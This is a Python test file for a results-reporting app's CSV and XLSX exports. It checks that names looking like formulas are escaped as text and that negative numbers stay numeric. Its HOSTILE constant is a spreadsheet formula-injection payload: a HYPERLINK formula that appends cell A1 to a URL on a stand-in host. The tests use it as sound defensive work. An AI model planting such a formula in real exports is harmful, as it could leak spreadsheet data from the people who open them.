"""The pages' tables as .xlsx and .csv: a name or text that looks like a formula is
written as text, numbers (negative ones too) stay numbers."""

import csv
import io
import zipfile

import openpyxl
import pytest

from benchlearn.reports.exports import Column, Sheet, to_csv, to_xlsx
from benchlearn.results.services import computation_request, computation_run
from benchlearn.units.models import Unit
from tests.conftest import client_for
from tests.results.conftest import (  # noqa: F401 - fixtures used by these tests
    computed_programme,
    extra_units,
    published,
)

HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"Gmina")'


def _sheet() -> Sheet:
    sheet = Sheet(
        "Tabela",
        [Column("Unit"), Column("Change", decimals=1), Column("Rank", decimals=0)],
    )
    sheet.rows = [[HOSTILE, -2.25, -3], ["-Gmina", 1.5, 2], ["Gmina A", None, None]]
    return sheet


def test_csv_text_is_neutralised_and_negative_numbers_stay_numbers():
    lines = list(csv.reader(io.StringIO(to_csv(_sheet()).decode("utf-8-sig")), delimiter=";"))
    assert lines[1:] == [
        ["'" + HOSTILE, "-2,2", "-3"],
        ["'-Gmina", "1,5", "2"],
        ["Gmina A", "", ""],
    ]


def test_xlsx_text_is_a_string_cell_and_negative_numbers_stay_numbers():
    data = to_xlsx(_sheet())
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    name, change, rank = rows[0]
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    assert (change.value, change.data_type, rank.value) == (-2.25, "n", -3)
    assert rows[1][0].value == "-Gmina" and rows[1][0].quotePrefix


@pytest.fixture
def computed(computed_programme, operator):  # noqa: F811 - a fixture
    computation_run(computation_request(user=operator).pk)
    return computed_programme


def test_a_units_hostile_name_downloads_as_text(computed, operator):
    unit_a = computed["unit_a"]
    other = next(u for u in computed["units"] if u != unit_a)
    Unit.objects.filter(pk=other.pk).update(name=HOSTILE)
    base = f"/units/{unit_a.teryt}/results/EDU_NET_COST/table"
    client = client_for(operator)  # operators see every unit by name
    text = client.get(f"{base}.csv?group=all&year=2024").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [line[1] for line in lines if HOSTILE in line[1]] == ["'" + HOSTILE]
    for line in lines[1:]:
        assert not line[2].startswith("'")  # values are numbers, never neutralised text
    data = client.get(f"{base}.xlsx?group=all&year=2024").content
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value == HOSTILE]
    assert len(names) == 1 and names[0].data_type == "s" and names[0].quotePrefix
